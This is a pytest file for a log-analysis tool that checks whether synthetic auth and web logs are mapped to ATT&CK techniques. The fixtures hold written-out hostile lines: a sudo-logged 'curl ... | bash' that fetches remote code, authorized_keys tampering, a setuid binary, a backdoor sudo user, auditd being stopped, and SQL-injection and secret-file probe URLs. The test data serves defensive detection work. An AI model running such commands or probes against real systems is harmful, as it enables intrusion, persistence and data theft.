"""Whole runs: the package installed as a distribution, on logs of hosts that are attacked, and that are not."""

# ruff: noqa: E501 - rows of logs read better long than broken

import json
import random
from datetime import datetime, timedelta

import pytest

START = datetime(2026, 3, 2, 6)  # noqa: DTZ001 - logs of a host whose zone is UTC
HOURS, BROKEN = 4, 3 * 3600


def auth(attack=()):
    """A host on the internet: cron, people, guesses that never succeed; and what is given, (second, line)."""
    chance = random.Random(3)  # noqa: S311 - a fixed choice of noise
    rows = [(s, "CRON[4100]: (root) CMD (/usr/lib/sysstat/sa1 1 1)") for s in range(0, HOURS * 3600, 20)]
    for s in range(0, HOURS * 3600, 90):
        name, last = chance.choice(["admin", "test", "oracle", "git", "pi"]), chance.randint(1, 250)
        line = f"sshd[41]: Failed password for invalid user {name} from 203.0.113.{last} port {s + 1025} ssh2"
        rows.append((s + chance.randint(0, 60), line))
    for s in range(300, HOURS * 3600, 1800):
        rows.append(
            (s, "sshd[42]: Accepted publickey for deploy from 192.0.2.10 port 4000 ssh2: RSA SHA256:ab")
        )
        rows.append((s + 5, sudo("deploy", "/usr/bin/systemctl restart shop")))
    return stamped([*rows, *attack], "{:%b %e %H:%M:%S} host1 ")


def sudo(user, command):
    """What sudo logs."""
    return f"sudo[43]:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND={command}"


def stamped(rows, head):
    """Lines in order of time."""
    return "".join(
        head.format(START + timedelta(seconds=s)) + line + "\n"
        for s, line in sorted(rows, key=lambda r: r[0])
    )


def web(attack=()):
    """An access log of visitors, and of scanners that are refused; and what is given."""
    chance = random.Random(5)  # noqa: S311 - a fixed choice of noise
    rows = []
    for s in range(0, HOURS * 3600, 5):
        path = chance.choice(["/", "/cart", f"/items?id={chance.randint(1, 999)}", "/app.js"])
        rows.append((s, f"192.0.2.{chance.randint(1, 99)}", f"GET {path}", 200))
        if s % 120 == 0:
            path = chance.choice(["/.env", "/phpmyadmin/", "/wp-config.php"])
            rows.append((s, f"203.0.113.{chance.randint(1, 250)}", f"GET {path}", 404))
    return "".join(
        f'{who} - - [{START + timedelta(seconds=s):%d/%b/%Y:%H:%M:%S} +0000] "{what} HTTP/1.1" {code} 512 "-" "-"\n'
        for s, who, what, code in sorted([*rows, *attack], key=lambda r: r[0])
    )


GUESSED = [
    *((BROKEN + 3 * i, f"sshd[50]: Failed password for alice from 198.51.100.7 port {i + 2000} ssh2") for i in range(40)),
    (BROKEN + 130, "sshd[50]: Accepted password for alice from 198.51.100.7 port 40000 ssh2"),
]  # fmt: skip
SPRAYED = [
    *((BROKEN + 3 * i, f"sshd[50]: Failed password for user{chr(97 + i % 26)} from 198.51.100.7 port {i + 2000} ssh2") for i in range(40)),
    (BROKEN + 130, "sshd[50]: Accepted password for zoe from 198.51.100.7 port 40000 ssh2"),
]  # fmt: skip
HOST = [
    (
        BROKEN + 160,
        "sudo[51]:    alice : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
    ),
    (
        BROKEN + 190,
        "useradd[52]: new user: name=helper, UID=1005, GID=1005, home=/home/helper, shell=/bin/sh",
    ),
    (BROKEN + 195, "usermod[53]: add 'helper' to group 'sudo'"),
    (BROKEN + 240, sudo("deploy", "/bin/bash -c curl -s http://198.51.100.7/x.sh | bash")),
    (BROKEN + 260, sudo("deploy", "/usr/bin/tee -a /home/eve/.ssh/authorized_keys")),
    (BROKEN + 280, sudo("deploy", "/usr/bin/chmod u+s /tmp/.x")),
    (BROKEN + 311, "systemd[1]: Stopped Security Auditing Service."),
    (BROKEN + 330, "crontab[54]: (root) REPLACE (root)"),
]
PROBES = ["/.env", "/.git/config", "/backup.zip", "/phpmyadmin/", "/server-status", "/actuator/env", "/a.bak"]
SCANNED = [
    *((BROKEN + i, "198.51.100.9", f"GET {PROBES[i % 7]}", 404) for i in range(28)),
    (BROKEN + 40, "198.51.100.9", "GET /.git/config", 200),
]
INJECTED = [
    (BROKEN + i, "198.51.100.9", f"GET /items/{i}%27%20UNION%20SELECT%20name", 200) for i in range(12)
]


def ids(done):
    """The techniques of a JSON answer."""
    assert done.stderr == ""
    return {one["id"] for one in json.loads(done.stdout)["techniques"]}


def test_a_host_and_a_site_that_are_only_probed_show_nothing(run):
    """Guesses and scans that get nothing, all day: no technique, exit 0, and no incident either."""
    done = run("attack", "--format", "json", auth=auth(), access=web())
    assert ids(done) == set()
    assert done.returncode == 0
    assert run("attack").stdout == "No technique of ATT&CK was seen.\n"
    assert run("analyze", "-q").returncode == 0


def test_each_step_of_an_intruder_is_told_with_who_and_a_line(run):
    """A guessed password and what follows on the host: each technique, its actor, and a line that proves it."""
    done = run("attack", "--format", "json", auth=auth(GUESSED + HOST))
    assert done.returncode == 1
    assert ids(done) >= {
        "T1110.001", "T1078", "T1548.003", "T1136.001", "T1098.007", "T1105", "T1059.004", "T1098.004",
        "T1548.001", "T1562.012", "T1053.003",
    }  # fmt: skip
    found = {one["id"]: one for one in json.loads(done.stdout)["techniques"]}
    assert set(found["T1110.001"]["who"]) == {"198.51.100.7", "alice"}
    assert found["T1110.001"]["count"] == 40
    assert "Accepted password for alice" in found["T1078"]["evidence"][0]["text"]
    assert found["T1136.001"]["who"] == ["helper"]
    assert found["T1098.007"]["first"] == "2026-03-02T09:03:15Z"


def test_many_names_from_one_address_are_spraying(run):
    """Where most failures are of other names than the one that succeeds, it is T1110.003."""
    found = ids(run("attack", "--format", "json", auth=auth(SPRAYED)))
    assert found == {"T1110.003", "T1078"}


@pytest.mark.parametrize("attack,id_", [(SCANNED, "T1595.003"), (INJECTED, "T1190")])
def test_a_scanner_that_gets_an_answer(run, attack, id_):
    """Probes and injections that are answered are told, refused ones are not."""
    assert ids(run("attack", "--format", "json", access=web(attack))) == {id_}
    refused = [(s, who, what, 403) for s, who, what, _ in attack]
    assert ids(run("attack", "--format", "json", access=web(refused))) == set()


def test_an_incident_names_the_technique_once(run):
    """The bundled detector finds the same log-in: it is one cause in the answer, not two."""
    done = run("analyze", "--format", "json", auth=auth(GUESSED))
    first = json.loads(done.stdout)["incidents"][0]
    assert first["kind"] == "security"
    assert "T1110.001" in first["summary"]
    named = [(cause["service"], cause["template_id"]) for cause in first["causes"]]
    assert len(named) == len(set(named))


def test_a_layer_for_the_navigator(run):
    """--format navigator prints a layer: each technique under each of its tactics, with a score up to 10."""
    layer = json.loads(run("attack", "--format", "navigator", auth=auth(GUESSED)).stdout)
    assert layer["domain"] == "enterprise-attack"
    assert layer["versions"]["layer"] == "4.5"
    pairs = {(one["techniqueID"], one["tactic"]) for one in layer["techniques"]}
    assert ("T1110.001", "credential-access") in pairs
    assert {tactic for id_, tactic in pairs if id_ == "T1078"} >= {"initial-access", "persistence"}
    assert all(0 < one["score"] <= 10 for one in layer["techniques"])


def test_hostile_lines_do_nothing_to_a_terminal(run):
    """Escapes in a name or a command are shown, never sent; no row is wider than the terminal's 100 columns."""
    odd = (BROKEN + 190, "useradd[52]: new user: name=\x1b[2Jx, UID=1005, GID=1005, home=/home/\x1b]0;x\x07")
    done = run("attack", auth=auth([odd]))
    assert "T1136.001" in done.stdout
    assert "\x1b" not in done.stdout
    assert max(len(row) for row in done.stdout.splitlines()) <= 100


def test_wrong_usage_is_two(run):
    """As with our own commands."""
    assert run("attack", "--format", "yaml", auth="x\n").returncode == 2
    assert run("attack", "--since", "yesterday", auth="x\n").returncode == 2
    lost = run("attack", "k8s://shop", auth="x\n")
    assert (lost.returncode, "logsense-kubernetes brings it" in lost.stderr) == (2, True)
    shown = run("attack", "--help").stdout
    assert "\n    logsense attack /var/log\n    logsense attack auth.log --format navigator" in shown
